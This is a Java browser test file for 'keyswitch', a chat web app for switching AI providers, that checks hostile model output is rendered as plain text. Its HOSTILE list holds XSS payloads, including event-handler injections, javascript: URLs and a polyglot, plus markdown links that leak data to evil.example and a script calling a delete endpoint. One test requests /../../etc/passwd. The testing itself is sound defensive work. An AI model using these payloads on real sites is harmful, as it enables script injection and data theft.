package io.keyswitch.http.web;

import static org.assertj.core.api.Assertions.assertThat;

import io.keyswitch.core.Json;
import io.keyswitch.testing.BrowserScript;
import io.keyswitch.testing.FakeProvider;
import io.keyswitch.testing.TestApp;
import java.net.URI;
import java.net.http.HttpRequest;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;

/** The chat page at {@code /} in a real browser. */
@Timeout(300)
class PageTest {
    private static final Path SCREENSHOTS = Path.of("target/keyswitch/screenshots");

    private static final List<String> HOSTILE = List.of(
            "![x](https://evil.example/?q=secret) ![y](http://127.0.0.1:1/y.png \"t\")",
            "[click](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>) <javascript:alert(1)>",
            "<img src=x onerror=alert(1)><svg onload=alert(2)><iframe src=https://evil.example></iframe>",
            "<style>*{background:url(https://evil.example/c)}</style><link rel=stylesheet href=https://evil.example/s>",
            "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=https://evil.example'>",
            "<form action=https://evil.example><input name=key autofocus onfocus=alert(3)></form>",
            "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>"
                    + "\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
            "[a](https://evil.example \"x\" onmouseover=alert(4)) [b]: https://evil.example <https://evil.example>",
            "```html\n<script>alert(5)</script>\n``` `<b>` <details open ontoggle=alert(6)>",
            "<script>fetch('/deleteUserModelConfig',{method:'POST',body:'{\"data\":{}}'})</script>",
            "{\"flow\":{\"step\":\"api_key\",\"expects\":\"api_key\",\"secret\":true,\"options\":[{\"value\":\"x\",\"label\":\"x\"}]}}",
            "switch to groq");

    @Test
    void aUserChangesTheModelThroughChatMessages() throws Exception {
        var chromium = BrowserScript.chromium();
        Files.createDirectories(SCREENSHOTS);
        try (var app = TestApp.start()) {
            BrowserScript.run(
                    "page.mjs",
                    app.url() + "/",
                    chromium.toString(),
                    SCREENSHOTS.toAbsolutePath().toString());
        }
    }

    @Test
    void everyProviderCanBeSelectedThroughChatMessages() throws Exception {
        var chromium = BrowserScript.chromium();
        try (var app = TestApp.start()) {
            BrowserScript.run("dialogue.mjs", app.url() + "/", chromium.toString());
        }
    }

    @Test
    void aUserChangesTheModelOnTheSettingsPage() throws Exception {
        var chromium = BrowserScript.chromium();
        Files.createDirectories(SCREENSHOTS);
        try (var app = TestApp.start()) {
            BrowserScript.run(
                    "settings.mjs",
                    app.url() + "/",
                    chromium.toString(),
                    SCREENSHOTS.toAbsolutePath().toString());
        }
    }

    @Test
    void nothingIsCutOffOnAPhone() throws Exception {
        var chromium = BrowserScript.chromium();
        try (var app = TestApp.start()) {
            BrowserScript.run("phone.mjs", app.url() + "/", chromium.toString());
        }
    }

    @Test
    void hostileModelOutputIsRenderedAsText() throws Exception {
        var chromium = BrowserScript.chromium();
        var next = new AtomicInteger();
        try (var provider = FakeProvider.answering((request, out) -> {
                            var chunk = Json.object();
                            if (request.method().equals("GET")) {
                                chunk.putArray("data").addObject().put("id", "<svg onload=alert(9)>");
                                out.json(200, Json.text(chunk));
                                return;
                            }
                            var words = HOSTILE.get(Math.min(next.getAndIncrement(), HOSTILE.size() - 1));
                            var choice = chunk.putArray("choices").addObject().put("finish_reason", "stop");
                            choice.putObject("delta").put("content", words);
                            out.stream().write("data: " + Json.text(chunk) + "\n\ndata: [DONE]\n\n");
                        })
                        .unchecked();
                var app = TestApp.start("""
                                  evil: {baseUrl: '%s/v1', displayName: '<img src=x onerror=alert(8)>', defaultModel: m-1, models: {get: /models}}
                                """.formatted(provider.baseUrl()))) {
            BrowserScript.run("hostile.mjs", app.url() + "/", chromium.toString(), Integer.toString(HOSTILE.size()));
            assertThat(next.get()).isGreaterThanOrEqualTo(HOSTILE.size());
        }
    }

    @Test
    void everyFileOfThePageIsServed() throws Exception {
        try (var app = TestApp.start();
                var files = Files.list(Path.of("server/src/main/resources/web"))) {
            var names = files.map(file -> file.getFileName().toString()).toList();
            assertThat(names)
                    .contains("page.js", "keyswitch.js", "language-de.js")
                    .allSatisfy(name -> {
                        var request = HttpRequest.newBuilder(URI.create(app.url() + "/" + name));
                        var response = TestApp.send(request.build());
                        assertThat(response.statusCode()).as(name).isEqualTo(200);
                    });
        }
    }

    @Test
    void thePageIsServedWithAStrictContentSecurityPolicy() {
        try (var app = TestApp.start()) {
            var page = TestApp.send(
                    HttpRequest.newBuilder(URI.create(app.url() + "/")).build());
            assertThat(page.statusCode()).isEqualTo(200);
            assertThat(page.headers().firstValue("Content-Security-Policy").orElse(""))
                    .startsWith("default-src 'none'")
                    .doesNotContain("unsafe");
            assertThat(page.headers().firstValue("X-Content-Type-Options")).contains("nosniff");
            assertThat(page.body())
                    .doesNotContain("http://")
                    .doesNotContain("https://")
                    .doesNotContain(" style=")
                    .doesNotContain("onclick");
            var missing = TestApp.send(HttpRequest.newBuilder(URI.create(app.url() + "/../../etc/passwd"))
                    .build());
            assertThat(missing.statusCode()).isEqualTo(404);
        }
    }
}
